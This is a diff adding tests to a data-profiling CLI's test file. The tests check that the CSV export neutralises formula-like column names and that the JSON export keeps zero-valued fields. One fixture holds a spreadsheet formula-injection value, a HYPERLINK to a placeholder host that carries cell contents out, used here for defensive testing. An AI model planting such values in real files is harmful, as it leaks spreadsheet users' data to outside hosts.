@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from sluice.cli import _describe_profile
+from sluice.cli import CSV_COLUMNS, _column_row, _describe_profile, to_dict
 from sluice.v1 import profile_pb2
 
 
@@ -32,3 +32,27 @@ def test_the_column_table_keeps_timestamps_whole_and_aligned() -> None:
     # Every row lines up with the header: the type and the numbers start at the same place.
     assert len({len(line) for line in table}) == 1
     assert {line[25:36].strip() for line in table} == {"type", "datetime", "categorical", "text"}
+
+
+def test_the_csv_export_shows_formula_like_names_as_text_and_keeps_negative_numbers() -> None:
+    """A column named '=HYPERLINK(...)' was written as it is, and a spreadsheet opening the export ran it."""
+    columns = [
+        profile_pb2.ColumnProfile(name='=HYPERLINK("http://example.invalid/"&A1,"x")', inferred_type="text"),
+        profile_pb2.ColumnProfile(name="-balance", inferred_type="integer", min="-5", max="7"),
+        profile_pb2.ColumnProfile(name="plain", inferred_type="integer", min="-1", max="1"),
+    ]
+    rows = [_column_row(c) for c in columns]
+    assert [r[CSV_COLUMNS.index("name")] for r in rows] == [
+        '\'=HYPERLINK("http://example.invalid/"&A1,"x")',
+        "'-balance",
+        "plain",
+    ]
+    assert [r[CSV_COLUMNS.index("min")] for r in rows] == ["", "-5", "-1"]  # numbers stay numbers
+
+
+def test_the_json_export_has_every_field_those_at_zero_too() -> None:
+    column = profile_pb2.ColumnProfile(name="id", position=0, inferred_type="integer", count=3, missing=0)
+    exported = to_dict(column)
+    # int64 fields as strings, as protobuf's JSON writes them
+    assert (exported["position"], exported["missing"], exported["invalid"]) == (0, "0", "0")
+    assert exported["name"] == "id" and exported["count"] == "3"
